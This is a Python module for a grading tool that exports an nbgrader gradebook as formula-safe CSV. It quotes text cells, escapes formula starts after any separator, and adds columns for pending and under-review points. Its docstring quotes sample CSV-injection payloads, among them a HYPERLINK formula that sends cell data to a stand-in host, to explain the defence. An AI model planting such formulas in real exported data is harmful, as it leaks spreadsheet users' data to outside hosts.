"""Export: the gradebook as CSV, in nbgrader's columns, safe to open in a spreadsheet.

nbgrader's own ``CsvExportPlugin`` writes each value as it is, joined by commas. A student id is a
folder name the student chose: ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(1+1)`` would run as a
formula in Excel or LibreOffice (CSV injection), and a comma would shift the columns.
:class:`SafeCsvExport` writes the same columns and rows through :mod:`csv` and makes every text
cell safe whatever separator the spreadsheet splits on (``,`` here, ``;`` in many locales, tab, ``|``):

- every text cell is quoted (``csv.QUOTE_NONNUMERIC``); numbers stay numbers, unquoted;
- OWASP's escape, applied at the start of the cell AND after each ``, ; TAB | CR LF`` inside it: where
  what follows (after spaces and double quotes) starts with ``= + - @``, TAB, CR or LF, a ``'`` is
  put in front. A spreadsheet that honours the quotes sees one cell starting with ``'`` or plain
  text; one that splits on ``;`` (or tab, ``|``) and ignores them sees pieces that all start with
  text or ``'``, never with a formula. ``eve;=1+1`` is written ``"eve;'=1+1"``.

Two columns are added after nbgrader's: ``awaiting_manual_grading``, the points of hand-graded
answers not yet scored in formgrader (0.0 once all are scored), and ``under_review``, the points of
tests flagged for what the grader read in their answer's source (``grader.engine.grade.reviewed``):
counted in the score until an instructor confirms or clears the finding in formgrader. ``raw_score``
and ``score`` are nbgrader's, as its own export writes them: the points so far (an answer not graded
yet counts 0), so while either added column is above 0 they are not final. Every numeric column stays
numeric or empty.

The course's ``nbgrader_config.py`` makes it the plugin of ``nbgrader export`` too.
"""
from __future__ import annotations

import csv
import re
from pathlib import Path

from nbgrader.api import Gradebook, MissingEntry
from nbgrader.plugins import ExportPlugin

__all__ = ["COLUMNS", "SafeCsvExport", "spreadsheet_cell", "export_csv"]

COLUMNS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
           "raw_score", "late_submission_penalty", "score", "max_score", "awaiting_manual_grading", "under_review"]
FORMULA_START = "=+-@\t\r\n"  # OWASP: what a cell that a spreadsheet evaluates starts with
SEPARATORS = ",;\t|\r\n"  # what some spreadsheet (some locale, some import dialog) splits cells on
# The start of the text, or just after a separator, where what follows (spaces and double quotes
# skipped) starts like a formula.
_RISKY = re.compile(r"(^|[%s])(?=[ \"]*[%s])" % (re.escape(SEPARATORS), re.escape(FORMULA_START)))


def spreadsheet_cell(value):
    """``value`` as a cell no spreadsheet evaluates, however it splits: see the module's docstring."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return _RISKY.sub(lambda m: m[1] + "'", text)


class SafeCsvExport(ExportPlugin):
    """nbgrader's CSV export (same columns, one row per assignment and student), formula-safe."""

    def export(self, gradebook: Gradebook) -> None:
        with open(self.to or "grades.csv", "w", newline="", encoding="utf-8") as file:
            writer = csv.writer(file, quoting=csv.QUOTE_NONNUMERIC)  # numbers bare, all text quoted
            writer.writerow(COLUMNS)
            for row in self._rows(gradebook):
                writer.writerow([spreadsheet_cell(row[column]) for column in COLUMNS])

    def _rows(self, gradebook: Gradebook):
        """One dict per (assignment, student) chosen; a missing submission scores 0, as in nbgrader."""
        for assignment in gradebook.assignments:
            if self.assignment and assignment.name not in self.assignment:
                continue
            for student in gradebook.students:
                if self.student and student.id not in self.student:
                    continue
                row = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
                       "last_name": student.last_name, "first_name": student.first_name,
                       "email": student.email, "max_score": assignment.max_score}
                try:
                    submission = gradebook.find_submission(assignment.name, student.id)
                except MissingEntry:
                    row.update(timestamp=None, raw_score=0.0, late_submission_penalty=0.0, score=0.0,
                               awaiting_manual_grading=0.0, under_review=0.0)
                else:
                    penalty = submission.late_submission_penalty or 0.0
                    row.update(timestamp=submission.timestamp, raw_score=submission.score,
                               late_submission_penalty=penalty, score=max(0.0, submission.score - penalty))
                    row["awaiting_manual_grading"] = _ungraded_points(submission)
                    row["under_review"] = _review_points(submission)
                yield row


def _ungraded_points(submission) -> float:
    """The points of the submission's grades that have no score yet (no automatic score and no
    manual one: hand-graded answers not yet scored in formgrader)."""
    return float(sum(grade.max_score or 0.0 for notebook in submission.notebooks for grade in notebook.grades
                     if grade.auto_score is None and grade.manual_score is None))


def _review_points(submission) -> float:
    """The points of the submission's grades flagged for review (an automatic score that still needs a manual
    grade, :func:`grader.engine.grade.reviewed`): counted in ``score`` until an instructor decides."""
    return float(sum(grade.auto_score or 0.0 for notebook in submission.notebooks for grade in notebook.grades
                     if grade.auto_score is not None and grade.needs_manual_grade and grade.manual_score is None))


def export_csv(root: Path, to: Path | None = None) -> Path:
    """Write ``assignment,duedate,timestamp,student_id,...,score,max_score`` rows; return the path. The gradebook
    is read, never written: the semester file's penalties are applied for the export only
    (:func:`grader.results.gradebook.penalties_applied`)."""
    from ..authoring.coursedir import CourseDir
    from .gradebook import penalties_applied

    root = root.resolve()
    target = (to or root / "grades.csv").resolve()
    with penalties_applied(CourseDir(root)) as gb:  # penalties from the semester file as it is now, not saved
        target.parent.mkdir(parents=True, exist_ok=True)
        SafeCsvExport(to=str(target)).export(gb)
    return target
